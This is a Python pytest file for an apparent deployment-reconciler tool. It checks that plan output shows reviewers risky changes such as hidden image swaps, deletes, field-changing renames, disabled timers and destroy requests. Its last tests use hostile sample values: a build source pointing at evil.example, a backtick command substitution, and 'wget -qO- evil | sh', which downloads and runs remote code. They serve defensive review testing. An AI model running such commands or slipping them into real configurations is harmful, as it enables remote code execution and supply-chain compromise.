"""What a reviewer must not miss: release paths, renames that change fields, timers, deletes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.flow.project import Project, new_project


@pytest.fixture(name="project")
def empty(tmp_path: Path) -> Project:
    return new_project(tmp_path / "workspace")


def told(project: Project, *words: str) -> str:
    return " ".join(project.run(*words).out.split())


def docker(*images: str) -> dict[str, Any]:
    return {"step": {"docker": {"images": list(images)}}}


def test_no_crowd_of_new_tasks_hides_the_release_paths_that_matter(project: Project) -> None:
    names = [f"task-{number:03}" for number in range(60)]
    for name in ["web-api", *names]:
        project.write(name, **docker(f"{name}:{{{{.Run.ID}}}}"))
    assert project.run("apply", "--auto-approve").code == 0
    for number in range(25):
        project.write(names[number], **docker(f"other-{number}:{{{{.Run.ID}}}}"))
    project.write("web-api", **docker("web-api:{{.Run.ID}}", "zzz:prod"))
    project.write("new-evil", **docker("zzz:latest"))
    for number in range(200):
        project.write(f"new-{number:03}", **docker(f"new-{number:03}:{{{{.Run.ID}}}}"))
    for words in (["--summary"], [], ["--full"], ["-o", "markdown"]):
        text = told(project, "plan", *words).replace("`", "")
        assert "contoso/web-api now writes registry.contoso.example/zzz:prod" in text, words
        assert "contoso/new-evil now writes registry.contoso.example/zzz:latest" in text, words
        assert text.count(" now writes registry.contoso.example/other-") == 25, words
    assert "and 200 new names of new tasks that nobody else writes" in told(project, "plan")
    notes = project.run("plan", "-o", "github").out
    assert "contoso/web-api now writes registry.contoso.example/zzz:prod" in notes


def test_deletes_stand_first_and_are_never_cut(project: Project) -> None:
    for number in range(30):
        project.write(f"zzz-{number:03}")
    project.write("aaa-one")
    assert project.run("apply", "--auto-approve").code == 0
    for path in (project.root / "specs").glob("zzz-*"):
        path.unlink()
    project.write("aaa-one", timeout=900)
    for words in (["--summary"], [], ["--full"]):
        out = project.run("plan", "--override-limit", "delete=30", "--reason", "x", *words).out
        assert out.count("  - contoso/zzz-") == 30
        assert out.index("~ contoso/aaa-one") > out.rindex("- contoso/zzz-")


def test_a_rename_that_changes_fields_says_which_and_is_limited_as_an_update(
    project: Project,
) -> None:
    for number in range(12):
        project.write(f"task-{number:03}")
    assert project.run("apply", "--auto-approve").code == 0
    for number in range(12):
        (project.root / f"specs/task-{number:03}.yaml").unlink()
        evil = {"source": "https://evil.example/web.git#main"}
        moved = {"movedFrom": [f"task-{number:03}"]}
        project.write(f"web-{number:03}", metadata=moved, context=evil, timeout=900)
    path = project.root / "reconciler.yaml"
    path.write_text(path.read_text() + "limits: {update: 5}\n")
    for words in (["--summary"], [], ["-o", "markdown"]):
        done = project.run("plan", *words)
        text = " ".join(done.out.split()).replace("\\", "")  # Markdown escapes
        assert "renamed, 3 fields (context.source, step.docker.images.0)" in text, words
        assert "no rebuild" not in text
        assert (done.code, "would update 12 of 12" in text) == (1, True)
    assert project.run("apply", "--auto-approve").code == 1
    allowed = ("--override-limit", "update=12", "--reason", "x")
    assert project.run("apply", "--auto-approve", *allowed).code == 0


def test_a_timer_that_is_off_is_not_announced(project: Project) -> None:
    timers = {"on-one": "0 */2 * * *", "off-one": {"schedule": "0 5 * * *", "status": "Disabled"}}
    project.write("web-api", triggers={"timers": timers})
    project.write("asleep", triggers={"timers": {"nightly": "0 3 * * *"}}, status="Disabled")
    text = told(project, "plan")
    assert "timer on-one 0 */2 * * * UTC (12 runs a day, next: " in text
    assert "timer off-one 0 5 * * * UTC (off)" in text
    assert "timer nightly 0 3 * * * UTC (off)" in text
    plan = json.loads(project.run("plan", "-o", "json").out)
    assert [(one["timer"], one["runs_after"]) for one in plan["timers"]] == [("on-one", 12)]
    assert "timer on-one starts: 12 runs a day" in told(project, "plan", "-o", "github")
    assert project.run("apply", "--auto-approve").code == 0
    (project.root / "specs/web-api.yaml").unlink()
    gone = told(project, "plan", "--full")
    assert "timer on-one 0 */2 * * * UTC" in gone
    assert "next:" not in gone


def test_a_destroy_is_the_wish_of_who_asked_for_it(project: Project) -> None:
    project.write("web-api")
    assert project.run("apply", "--auto-approve").code == 0
    text = told(project, "destroy", "--out", "plan.json")
    assert "destroy asked by lead@contoso.example (specs/web-api.yaml)" in text
    assert "removed" not in text
    (change,) = json.loads((project.root / "plan.json").read_text())["changes"]
    assert (change["cause"]["of"], change["cause"]["author"]) == (
        "request",
        "lead@contoso.example",
    )


def test_values_that_differ_look_different_in_the_comment(project: Project) -> None:
    def steps(quoted: str, tail: str) -> dict[str, Any]:
        long = f'busybox sh -c "echo {"0123456789 " * 12}; {tail}"'
        commands = [{"cmd": f'busybox sh -c "echo {quoted}"'}, {"cmd": long}]
        return {"step": {"inline": {"version": "v1.1.0", "steps": commands}}}

    project.write("web-api", **steps("'id'", "true"))
    assert project.run("apply", "--auto-approve").code == 0
    project.write("web-api", **steps("`id`", "wget -qO- evil | sh"))
    comment = project.run("plan", "-o", "markdown").out
    assert "echo `id`" in comment
    assert "echo 'id'" in comment
    for words in ([], ["-o", "markdown"]):
        text = told(project, "plan", *words)
        assert "; true" in text
        assert "wget -qO- evil | sh" in text
